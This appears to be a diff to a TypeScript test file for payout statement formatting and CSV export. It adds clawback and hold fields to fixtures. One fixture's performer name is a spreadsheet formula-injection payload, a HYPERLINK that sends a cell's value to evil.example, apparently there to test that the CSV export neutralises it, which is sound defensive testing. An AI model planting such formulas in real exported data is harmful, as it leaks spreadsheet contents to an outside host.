@@ -24,7 +24,7 @@ describe('payout formatting (it-IT, Europe/Rome)', () => {
     const statement: StatementDetail = {
       performerId: '2b7c4d1e-8f7a-4e63-9a51-5a4c1b2d3e4f', performerName: 'Giulia; "la romana"', weekStart: '2026-11-16', periodEnd: '2026-11-22T22:59:59.999Z', payoutDate: '2026-11-23T23:00:00.000Z',
       sources: { session: empty, message: { count: 1, grossUnits: 1000, purchasedUnits: 0, shareCents: 0 }, photo: { count: 1, grossUnits: 5000, purchasedUnits: 5000, shareCents: 2750 }, tip: empty },
-      grossUnits: 6000, purchasedUnits: 5000, promotionalUnits: 1000, sharePercent: 55, shareCents: 2750, paidCents: 0, scheduledCents: 0, unpaidCents: 2750, carriedOverCents: 2750, carryReason: 'below_minimum',
+      grossUnits: 6000, purchasedUnits: 5000, promotionalUnits: 1000, sharePercent: 55, shareCents: 2750, clawedBackCents: 0, heldCents: 0, paidCents: 0, scheduledCents: 0, unpaidCents: 2750, carriedOverCents: 2750, carryReason: 'below_minimum',
       status: 'carried_over', payoutIds: [], lines: [
         { creditedAt: '2026-11-18T10:00:00.000Z', source: 'photo', grossUnits: 5000, purchasedUnits: 5000, shareCents: 2750 },
         { creditedAt: '2026-11-18T11:00:00.000Z', source: 'message', grossUnits: 1000, purchasedUnits: 0, shareCents: 0 },
@@ -47,7 +47,7 @@ describe('payout formatting (it-IT, Europe/Rome)', () => {
     const empty = { count: 0, grossUnits: 0, purchasedUnits: 0, shareCents: 0 };
     const statement: StatementDetail = {
       performerId: '2b7c4d1e-8f7a-4e63-9a51-5a4c1b2d3e4f', performerName: '=HYPERLINK("http://evil.example/?"&A1;"Giulia")', weekStart: '2026-11-16', periodEnd: '2026-11-22T22:59:59.999Z', payoutDate: '2026-11-23T23:00:00.000Z',
-      sources: { session: empty, message: empty, photo: empty, tip: empty }, grossUnits: 0, purchasedUnits: 0, promotionalUnits: 0, sharePercent: 55, shareCents: 0, paidCents: 0, scheduledCents: 0, unpaidCents: 0, carriedOverCents: 0, carryReason: null,
+      sources: { session: empty, message: empty, photo: empty, tip: empty }, grossUnits: 0, purchasedUnits: 0, promotionalUnits: 0, sharePercent: 55, shareCents: 0, clawedBackCents: 0, heldCents: 0, paidCents: 0, scheduledCents: 0, unpaidCents: 0, carriedOverCents: 0, carryReason: null,
       status: 'open', payoutIds: [], lines: [], payouts: [],
     };
     const lines = statementCsv(statement).replace('\uFEFF', '').split('\r\n');
